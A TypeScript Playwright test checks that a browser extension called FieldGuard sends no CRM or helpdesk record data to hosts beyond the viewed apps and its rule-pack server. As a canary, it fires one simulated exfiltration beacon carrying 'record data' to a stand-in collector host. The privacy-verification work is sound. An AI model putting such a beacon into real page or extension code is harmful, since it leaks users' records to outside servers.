/**
 * Record data never leaves the browser: a full demo run (every demo record of the tour, a remote rule pack, the
 * popup on a record, the board on a list view) with every request the browser makes recorded. Chromium resolves
 * every hostname to the demo server, so a request to any host at all — a telemetry endpoint, a CDN, a FieldGuard
 * server — lands in its log; the test fails on any host that is not an app being viewed (or its API host) or the
 * configured rule-pack URL's. A content script sending data away (a fetch, an image, a beacon) would show as a
 * request from the app's page to another host, and is caught the same way.
 */
import { describe, expect, it } from 'vitest';
import type { Frame, Page } from 'playwright-core';
import { ALL_DEMO_ROUTES } from '../demo-apps';
import { acmeZendeskPack, RULE_PACKS_HOST, rulePackRoutes, ZENDESK_PACK_URL, type RulePackServing } from '../demo-apps/rule-packs';
import { LIST_VIEWS } from '../demo-apps/salesforce/list-data';
import { SIGN_IN_URLS, TOUR } from '../demo-apps/tour';
import { startDemoSession } from './demo-session';
import { openBoard, tabIdOf } from './extension-pages';

const SALESFORCE_LIST = `https://acme.lightning.force.com/lightning/o/Opportunity/list?filterName=${LIST_VIEWS[0].id}`;
/** Salesforce's API lives on the org's My Domain host, not on the Lightning host the user sees. */
const SALESFORCE_API_HOST = 'acme.my.salesforce.com';

const serving: RulePackServing = { served: acmeZendeskPack(1), failWith: null, seen: [] };
const session = startDemoSession([...rulePackRoutes(serving), ...ALL_DEMO_ROUTES], async ({ browser }) => {
  for (const url of SIGN_IN_URLS) {
    const page = await browser.context.newPage();
    await page.goto(url);
    await page.close();
  }
});

/** Chips FieldGuard added in any frame of the page (ServiceNow's form is in an iframe). */
async function chips(page: Page): Promise<number> {
  const counts = await Promise.all(page.frames().map((frame: Frame) => frame.locator('[data-fieldguard="chip"]').count().catch(() => 0)));
  return counts.reduce((sum, count) => sum + count, 0);
}

describe('what leaves the browser', () => {
  it('is only the viewed apps’ own API calls and the configured rule-pack URL, through a full demo run', async () => {
    const options = await session.open(`chrome-extension://${session.browser.extensionId}/options.html#remote`);
    await options.locator('section#remote').getByLabel('Pack URL (https)').fill(ZENDESK_PACK_URL);
    await options.locator('section#remote').getByRole('button', { name: 'Add URL' }).click();
    await expect.poll(() => serving.seen.length, { timeout: 15_000 }).toBeGreaterThan(0);
    await options.close();

    for (const stop of TOUR) {
      const page = await session.open(stop.url);
      await expect.poll(() => chips(page), { timeout: 15_000, message: stop.title }).toBeGreaterThan(0);
      if (stop.expect.kind === 'hints') {
        const popup = await session.browser.context.newPage();
        await popup.goto(`chrome-extension://${session.browser.extensionId}/popup.html`);
        const tabId = await tabIdOf(popup, page.url());
        await popup.goto(`chrome-extension://${session.browser.extensionId}/popup.html?tab=${tabId}`);
        await expect.poll(() => popup.locator('button.fg-finding').count(), { timeout: 10_000, message: `popup on ${stop.title}` }).toBeGreaterThan(0);
        await popup.close();
      }
      await page.close();
    }

    const { app, board } = await openBoard(session.browser, SALESFORCE_LIST);
    await expect.poll(() => board.locator('.fg-progress').getAttribute('data-state'), { timeout: 30_000 }).toBe('done');
    await board.close();
    await app.close();

    const allowed = new Set([...TOUR.map((stop) => new URL(stop.url).host), ...SIGN_IN_URLS.map((url) => new URL(url).host), SALESFORCE_API_HOST, RULE_PACKS_HOST]);
    // What a page, a content script, an extension page or the worker sends names its origin or page (Origin or
    // Referer): an app host or chrome-extension://. Chromium's own services (component updates, Google sign-in,
    // autofill) name neither, or google.com, and are not FieldGuard's to answer for.
    const demoOrigin = (value: string | null) => value !== null && (value.startsWith('chrome-extension://') || allowed.has(new URL(value).host));
    const fromWebContent = session.server.state.requests.filter((request) => demoOrigin(request.origin) || demoOrigin(request.referer));
    const hosts = [...new Set(fromWebContent.map((request) => request.host))].sort();
    expect(hosts.filter((host) => !allowed.has(host))).toEqual([]);
    // The net is real: a beacon from an app page to another host shows up in it.
    const page = await session.open(TOUR[0]?.url ?? '');
    await page.evaluate(() => navigator.sendBeacon('https://collector.example.test/collect', 'record data'));
    await expect.poll(() => session.server.state.requests.filter((request) => request.host === 'collector.example.test' && demoOrigin(request.origin ?? request.referer)).length).toBe(1);
    await page.close();
    // Requests the extension marks with its own origin (cross-origin ones without host access: the rule-pack
    // server) go nowhere else either.
    const fromExtension = session.server.state.requests.filter((request) => request.origin?.startsWith('chrome-extension://'));
    expect(fromExtension.map((request) => request.host)).toContain(RULE_PACKS_HOST);
    expect(fromExtension.filter((request) => ![SALESFORCE_API_HOST, RULE_PACKS_HOST].includes(request.host))).toEqual([]);
  });
});
